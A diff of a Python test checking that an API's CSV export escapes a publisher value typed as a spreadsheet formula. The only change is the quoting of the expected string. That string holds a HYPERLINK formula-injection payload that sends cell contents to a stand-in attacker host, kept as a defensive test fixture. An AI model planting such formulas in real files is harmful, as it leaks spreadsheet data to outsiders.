@@ -16,5 +16,5 @@ def test_a_source_publisher_typed_as_a_formula_is_text_in_the_api_csv(client, of
     assert response.status_code == 200
     rows = list(csv.DictReader(io.StringIO(response.content.decode())))
     publishers = {value for row in rows for key, value in row.items() if "publisher" in key}
-    assert publishers == {"'=HYPERLINK(\"http://evil.example/?\"&A2,\"Click\")"}
+    assert publishers == {'\'=HYPERLINK("http://evil.example/?"&A2,"Click")'}
     assert all(not row["value"].startswith("'") for row in rows)
